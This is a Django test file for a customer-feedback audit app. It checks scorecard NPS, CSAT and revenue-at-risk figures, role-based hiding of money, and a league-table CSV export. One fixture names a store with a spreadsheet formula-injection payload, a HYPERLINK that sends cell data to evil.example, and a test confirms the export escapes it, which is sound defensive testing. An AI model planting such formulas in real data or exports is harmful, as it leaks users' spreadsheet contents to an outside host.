"""Audit scores and customers side by side: the scorecard (page, PDF, share link) and the league table.

Expected figures are worked out here from the records with the pure rules (`metrics.tally`, `nps`,
`revenue_at_risk`), never written down, and the league's revenue must equal the scorecard's
(`tallies.location_voice`): one location, one story, wherever it is shown.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess
from datetime import timedelta
from decimal import Decimal

import pytest
from django.utils import timezone

from cx_audit.scorecards.sharing import share_link_create
from cx_audit.voice.choices import FeedbackSource
from cx_audit.voice.metrics import Response, csat_mean, csat_share, effort_mean, nps, tally
from cx_audit.voice.models import Feedback, LexiconTerm, VoicePolicy
from cx_audit.voice.revenue import DEFAULT_SHARES, quantize_money, revenue_at_risk
from cx_audit.voice.services import FeedbackIn, feedback_ingest
from cx_audit.voice.sidebyside import customer_voice
from cx_audit.voice.tallies import location_voice
from tests.cx_audit.scorecard_helpers import audit_at, failing_answers, passing_answers, scorecard_framework
from tests.cx_audit.test_insights_queries import BUDGETS, count_queries

pytestmark = pytest.mark.django_db

REVENUE = Decimal("12000000")
TERMS = (  # text, polarity, touchpoint, dimension (the codes of tests.factories.complete_framework)
    ("queue", -1, "checkout", "convenience"),
    ("dirty", -1, "front", ""),
    ("rude", -1, "", "service"),
    ("expensive", -1, "", "price"),
    ("friendly", 1, "", "service"),
)
# (days ago, NPS, CSAT, effort, comment): nine answers in the quarter, three more in the year, one older.
# Pain at the checkout in three comments (one says "queue" twice), the shop front in two, service in
# two (a dimension: "rude" names no touchpoint), price in one — the fourth, left off the top three.
ANSWERS = (
    (1, 10, 5, 2, "Friendly staff."),
    (5, 9, 4, 3, "Expensive."),
    (12, 3, 1, 6, "A long queue."),
    (20, 5, 2, 5, "Queue after queue."),
    (33, 8, 4, None, "Dirty windows."),
    (40, 7, 3, 4, "A dirty shop front."),
    (47, None, 3, 4, "The queue again."),
    (60, 2, None, None, "Rude."),
    (80, 0, None, None, "Rude!"),
    (120, 2, 2, 6, ""),
    (200, 10, 5, 1, ""),
    (300, 6, 3, 3, ""),
    (400, 0, 1, 7, "Rude."),
)
QUARTER, YEAR = 90, 365


def lexicon(brand) -> None:
    for text, polarity, touchpoint, dimension in TERMS:
        LexiconTerm.objects.create(
            brand=brand, text=text, polarity=polarity, touchpoint_code=touchpoint, dimension_code=dimension
        )


def speak(location, answers, prefix: str = "fb") -> None:
    """Feedback through the one writer (tags and all), at whole days ago, midday."""
    noon = timezone.localtime().replace(hour=12, minute=0, second=0, microsecond=0)
    records = [
        FeedbackIn(
            location_id=location.pk,
            channel="in_store_survey",
            external_id=f"{prefix}-{location.pk}-{n}",
            received_at=noon - timedelta(days=days),
            nps=score,
            csat=csat,
            effort=effort,
            comment=comment,
        )
        for n, (days, score, csat, effort, comment) in enumerate(answers)
    ]
    feedback_ingest(brand=location.brand, records=records, source=FeedbackSource.API)


def within(days: int):
    return tally(Response(nps=a[1], csat=a[2], effort=a[3]) for a in ANSWERS if a[0] < days)


def expected_revenue(revenue: Decimal = REVENUE):
    year = within(YEAR)
    return revenue_at_risk(revenue, Decimal(year.detractors) / Decimal(year.nps_n), DEFAULT_SHARES)


def grouped(amount: Decimal) -> str:
    """As the templates print money: whole units, thousands grouped (floatformat "0g")."""
    return f"{amount:,.0f}"


@pytest.fixture
def heard(chain, role_users):
    """GZ-101 (F1's) audited, with a year of customers and an annual revenue; the brand's own lexicon."""
    scorecard_framework(chain.brand)
    lexicon(chain.brand)
    chain.f1_south.annual_revenue = REVENUE
    chain.f1_south.save()
    audit_at(chain.f1_south, role_users["hq_admin"], failing_answers(chain.f1_south))
    speak(chain.f1_south, ANSWERS)
    return chain.f1_south


class ScorecardTests:
    def test_the_page_shows_nps_csat_effort_pain_points_and_revenue_from_the_records(
        self, heard, client_for, role_users
    ):
        html = client_for(role_users["franchisee"]).get(f"/scorecards/{heard.pk}/").content.decode()
        quarter = within(QUARTER)
        assert f'data-nps="{nps(quarter)}"' in html
        assert nps(quarter) is not None
        assert f"{quarter.nps_n} answers" in html
        assert f"{csat_share(quarter)}%" in html
        assert f'<dd class="csat-mean">{csat_mean(quarter)}</dd>' in html
        assert f'<dd class="effort">{effort_mean(quarter)}</dd>' in html
        # Top three, most mentioned first; a comment counts once however often it says "queue".
        points = re.findall(r"<li><strong>([^<]+)</strong> <span[^>]*>(\w+) · (\d+) comments?", html)
        assert points == [
            ("Checkout", "touchpoint", "3"),
            ("Shop front", "touchpoint", "2"),
            ("Service", "dimension", "2"),
        ]
        money = expected_revenue()
        assert f'data-value="{quantize_money(money.lost)}">{grouped(money.lost)}<' in html
        assert f'data-value="{quantize_money(money.at_risk)}">{grouped(money.at_risk)}<' in html
        year = within(YEAR)
        assert f"({year.detractors} of {year.nps_n} answers)" in html
        for _days, *_scores, comment in ANSWERS:  # figures and names only, never what a customer wrote
            assert not comment or comment not in html

    def test_the_api_tells_the_same_story(self, heard, api, role_users):
        customers = api(role_users["franchisee"]).get(f"/api/scorecards/{heard.pk}/").json()["customers"]
        quarter, money = within(QUARTER), expected_revenue()
        assert (customers["nps"], customers["nps_answers"]) == (str(nps(quarter)), quarter.nps_n)
        assert customers["csat_share"] == str(csat_share(quarter))
        assert customers["revenue_lost"] == str(quantize_money(money.lost))
        assert [p["code"] for p in customers["pain_points"]] == ["checkout", "front", "service"]
        assert customers["share_source"] == "detractors"

    def test_a_brand_figure_for_the_negative_share_is_used_and_said(self, heard):
        VoicePolicy.objects.create(
            brand=heard.brand, negative_share=Decimal("0.25"), complaint_rate=Decimal("0.05")
        )
        voice = customer_voice(heard)
        funnel = DEFAULT_SHARES.__class__(complaint_rate=Decimal("0.05"))
        assert voice.share_source == "brand"
        assert voice.revenue == revenue_at_risk(REVENUE, Decimal("0.25"), funnel)
        assert voice.revenue == location_voice([heard])[heard.pk].revenue  # the scorecard is location_voice

    def test_no_feedback_is_said_plainly_with_or_without_an_audit(self, chain, role_users, client_for):
        scorecard_framework(chain.brand)
        audit_at(chain.f1_tier3, role_users["hq_admin"], passing_answers(chain.f1_tier3))
        client = client_for(role_users["hq_analyst"])
        for location in (chain.f1_tier3, chain.f2_north_east):  # audited; never audited
            html = client.get(f"/scorecards/{location.pk}/").content.decode()
            assert "No customer feedback for this location in the last 365 days" in html
            assert "data-nps" not in html

    def test_a_share_link_shows_the_customers_but_not_the_money(self, heard, role_users, client):
        link = share_link_create(location=heard, user=role_users["hq_admin"])
        html = client.get(f"/share/{link.token}/").content.decode()
        assert f'data-nps="{nps(within(QUARTER))}"' in html
        assert "Not shown on a shared scorecard." in html
        money = expected_revenue()
        assert grouped(money.lost) not in html
        assert grouped(REVENUE) not in html

    def test_an_auditor_reads_the_customers_figures_but_not_the_money(
        self, chain, role_users, client_for, api
    ):
        """The auditor covers North: its scorecard of the direct store there shows what customers say,
        as the voice summary does, without revenue at risk; HQ sees the money on the same card."""
        scorecard_framework(chain.brand)
        lexicon(chain.brand)
        store = chain.direct_north
        store.annual_revenue = REVENUE
        store.save()
        audit_at(store, role_users["hq_admin"], failing_answers(store))
        speak(store, ANSWERS)
        money = grouped(expected_revenue().lost)
        auditor = client_for(role_users["auditor"]).get(f"/scorecards/{store.pk}/").content.decode()
        assert f'data-nps="{nps(within(QUARTER))}"' in auditor
        assert "For HQ and the store's franchisee." in auditor
        assert money not in auditor
        customers = api(role_users["auditor"]).get(f"/api/scorecards/{store.pk}/").json()["customers"]
        assert customers["revenue_lost"] is customers["revenue_at_risk"] is None
        assert customers["nps"] == str(nps(within(QUARTER)))
        assert money in client_for(role_users["hq_analyst"]).get(f"/scorecards/{store.pk}/").content.decode()

    @pytest.mark.skipif(not shutil.which("pdftotext"), reason="needs poppler-utils (make system-deps)")
    def test_the_pdf_carries_the_same_figures(self, heard, client_for, role_users, tmp_path):
        response = client_for(role_users["franchisee"]).get(f"/scorecards/{heard.pk}/pdf/")
        path = tmp_path / "card.pdf"
        path.write_bytes(response.content)
        text = subprocess.run(
            ["pdftotext", str(path), "-"], capture_output=True, text=True, check=True
        ).stdout
        assert "What customers say" in text
        assert f"NPS {nps(within(QUARTER))}" in text
        assert grouped(expected_revenue().lost) in text
        assert "Checkout" in text


# --- the league table ----------------------------------------------------------------------------------

EVIL = '=HYPERLINK("http://evil.example/?d="&A2,"x")'
LEAGUE_NPS = {  # location → NPS answers in the league's window
    "f1_south": (10, 9, 3, 5),
    "f2_north_east": (0, 0, 10),
    "f1_tier3": (10, 10),
}


@pytest.fixture
def league(chain, role_users):
    """Four audited stores: GZ-101 and SY-201 with revenue, LY-102 named like a formula, BJ-001 unheard."""
    scorecard_framework(chain.brand)
    admin = role_users["hq_admin"]
    for name, revenue in (("f1_south", "12000000"), ("f2_north_east", "3500000.50")):
        getattr(chain, name).annual_revenue = Decimal(revenue)
        getattr(chain, name).save()
    chain.f1_tier3.name = EVIL
    chain.f1_tier3.save()
    for location in (chain.direct_north, chain.f1_south, chain.f2_north_east, chain.f1_tier3):
        audit_at(location, admin, passing_answers(location), days_ago=3)
    for name, scores in LEAGUE_NPS.items():
        speak(getattr(chain, name), [(n + 2, score, None, None, "") for n, score in enumerate(scores)])
    speak(chain.other, [(2, 0, None, None, "")])  # another brand's customers
    return chain


def csv_rows(client, **params) -> list[dict[str, str]]:
    response = client.get("/api/insights/league/", {"format": "csv", **params})
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


class LeagueTests:
    def test_csv_has_nps_and_revenue_columns_with_the_right_values_and_safe_cells(
        self, league, api, role_users
    ):
        rows = {row["location_code"]: row for row in csv_rows(api(role_users["hq_analyst"]))}
        chain = league
        for name, scores in LEAGUE_NPS.items():
            location = getattr(chain, name)
            row = rows[location.code]
            assert row["nps"] == str(nps(tally(Response(nps=s) for s in scores)))
            assert row["nps_answers"] == str(len(scores))
            voice = location_voice([location])[location.pk]  # what its scorecard says
            if location.annual_revenue is None:
                assert row["revenue_lost"] == row["revenue_at_risk"] == ""
            else:
                share = Decimal(sum(s <= 6 for s in scores)) / len(scores)
                money = revenue_at_risk(location.annual_revenue, share, DEFAULT_SHARES)
                assert money == voice.revenue
                assert row["revenue_lost"] == str(quantize_money(money.lost))
                assert row["revenue_at_risk"] == str(quantize_money(money.at_risk))
        assert rows["BJ-001"]["nps"] == ""
        assert rows["BJ-001"]["nps_answers"] == "0"
        assert rows[chain.f1_tier3.code]["location_name"] == "'" + EVIL  # text: a formula no more
        assert rows[chain.f2_north_east.code]["nps"] == "-33.3"  # a number stays a number

    def test_sorted_by_nps_and_by_revenue_at_risk_those_without_last(self, league, api, role_users):
        client = api(role_users["hq_analyst"])
        by_nps = [row["location_code"] for row in csv_rows(client, ordering="nps")]
        assert by_nps == ["SY-201", "GZ-101", "LY-102", "BJ-001"]
        assert [row["location_code"] for row in csv_rows(client, ordering="-nps")][:3] == [
            "LY-102",
            "GZ-101",
            "SY-201",
        ]
        by_risk = csv_rows(client, ordering="-risk")
        assert [row["location_code"] for row in by_risk][:2] == ["GZ-101", "SY-201"]
        assert Decimal(by_risk[0]["revenue_lost"]) > Decimal(by_risk[1]["revenue_lost"])

    def test_the_page_shows_and_sorts_the_new_columns(self, league, client_for, role_users, table_rows):
        client = client_for(role_users["hq_analyst"])
        response = client.get("/insights/league/", {"ordering": "-nps"})
        html = response.content.decode()
        assert 'aria-sort="descending">NPS</a>' in html
        first = table_rows(response)[0]
        assert first[-1] == "100.0 2 answers"  # NPS, its answers (no revenue recorded here)

    def test_league_queries_stay_the_same_as_feedback_grows(self, league, role_users):
        analyst = role_users["hq_analyst"].pk
        urls = [
            "/api/insights/league/",
            "/api/insights/league/?format=csv",
            "/api/insights/league/?ordering=-risk",
            "/insights/league/",
        ]

        def measure() -> list[int]:
            return [count_queries(url, analyst)[1] for url in urls]

        few = measure()
        now = timezone.now()
        Feedback.objects.bulk_create(
            Feedback(
                brand=location.brand,
                location=location,
                channel="app",
                source=FeedbackSource.DEMO,
                external_id=f"bulk-{location.pk}-{n}",
                received_at=now - timedelta(days=n % 300, hours=1),
                nps=n % 11,
            )
            for location in (league.direct_north, league.f1_south, league.f2_north_east, league.f1_tier3)
            for n in range(300)
        )
        assert measure() == few
        budgets = [BUDGETS[url] for url in ("/api/insights/league/", "/api/insights/league/?format=csv")]
        budgets += [BUDGETS["/api/insights/league/"], BUDGETS["/insights/league/"]]
        assert all(count <= budget for count, budget in zip(few, budgets, strict=True)), (few, budgets)
